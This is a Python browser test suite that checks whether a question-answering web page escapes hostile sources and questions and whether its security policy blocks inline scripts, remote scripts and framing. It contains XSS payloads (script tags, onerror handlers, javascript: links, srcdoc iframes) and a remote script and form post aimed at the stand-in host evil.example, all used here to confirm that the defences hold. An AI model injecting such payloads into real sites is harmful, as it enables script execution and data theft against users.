"""Nothing from a source or a question becomes markup, and the page can talk to its own server only."""

import pytest

from browser.conftest import Open, Visitor
from browser.scripted import HOSTILE
from ui_samples import PAYLOADS

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore")]


def unharmed(visitor: Visitor) -> None:
    page = visitor.page
    page.wait_for_timeout(200)
    assert page.evaluate("window.pwned") is None
    assert visitor.outside == []
    assert "dialog" not in visitor.errors
    assert (
        page.locator(
            "main iframe, main img, main base, main object, main embed, dialog iframe, dialog img"
        ).count()
        == 0
    )
    assert page.locator("main style, main script, main meta, main input[type=password]").count() == 0
    foreign = page.eval_on_selector_all(
        "main a[href], dialog a[href]",
        "links => links.map(a => a.protocol ?? 'http:').filter(p => !/^https?:$/.test(p))",
    )
    assert foreign == []


def test_hostile_source_question_and_answer_are_shown_as_text(visit: Open) -> None:
    visitor = visit()
    page = visitor.ask("Attack " + " ".join(PAYLOADS).replace("\n", " "), wait=False)
    page.wait_for_selector("#nkqa-current article.answered")
    unharmed(visitor)
    assert "<script>window.pwned=1</script>" in page.inner_text("#nkqa-current .text")
    page.hover("#nkqa-current .text a.cite")
    page.wait_for_selector(".tip")
    unharmed(visitor)
    page.click("#nkqa-current .text a.cite")
    page.wait_for_selector("#nkqa-panel[open]")
    unharmed(visitor)
    assert "<img src=x onerror=window.pwned=1>" in page.inner_text("#nkqa-panel")


def test_hostile_source_in_the_lists(visit: Open) -> None:
    visitor = visit()
    for tab in ("Sources", "Timeline", "Map"):
        visitor.page.click(f"button[role=tab]:has-text('{tab}')")
        visitor.page.wait_for_timeout(500)
        unharmed(visitor)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_link_with_a_payload_is_a_question_and_no_more(visit: Open, payload: str) -> None:
    from urllib.parse import quote

    visitor = visit(path="/?q=" + quote("Refuse " + payload))
    visitor.page.wait_for_selector("#nkqa-current article:not(.pending)")
    unharmed(visitor)


def test_the_policy_stops_what_escaping_would_let_through(visit: Open) -> None:
    visitor = visit()
    page = visitor.page
    page.evaluate(
        """() => {
          const hole = document.createElement('div');
          hole.innerHTML = '<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"></svg>'
            + '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'
            + '<a id="js" href="javascript:window.pwned=1">x</a>'
            + '<form id="f" action="https://evil.example/"><input name="a" value="b"></form>';
          document.body.append(hole);
          const inline = document.createElement('script');
          inline.textContent = 'window.pwned=1';
          document.body.append(inline);
          const remote = document.createElement('script');
          remote.src = 'https://evil.example/x.js';
          document.body.append(remote);
          document.getElementById('js').click();
          HTMLFormElement.prototype.submit.call(document.getElementById('f'));
        }"""
    )
    page.wait_for_timeout(400)
    assert page.evaluate("window.pwned") is None
    page.evaluate(
        "setTimeout(() => { try { window.made = new Function('return 1')() } catch { window.made = 'refused' } })"
    )
    page.wait_for_timeout(100)
    assert page.evaluate("window.made") == "refused"
    reached = "fetch('https://evil.example/').then(() => 'reached', () => 'refused')"
    assert page.evaluate(reached) == "refused"
    assert visitor.outside == []
    assert page.url.startswith(visitor.address)


def test_the_page_of_a_source_runs_no_script_at_all(visit: Open) -> None:
    visitor = visit()
    visitor.page.goto(f"{visitor.address}/page/source?id={HOSTILE}&start=0&end=60")
    assert visitor.page.locator("script").count() == 0
    assert visitor.page.evaluate("window.pwned") is None
    assert visitor.outside == []


def test_the_page_cannot_be_framed(visit: Open) -> None:
    visitor = visit()
    page = visitor.page
    page.goto("about:blank")
    page.set_content(f"<iframe src='{visitor.address}/'></iframe>")
    page.wait_for_timeout(600)
    assert page.frames[-1].locator("#nkqa-box").count() == 0
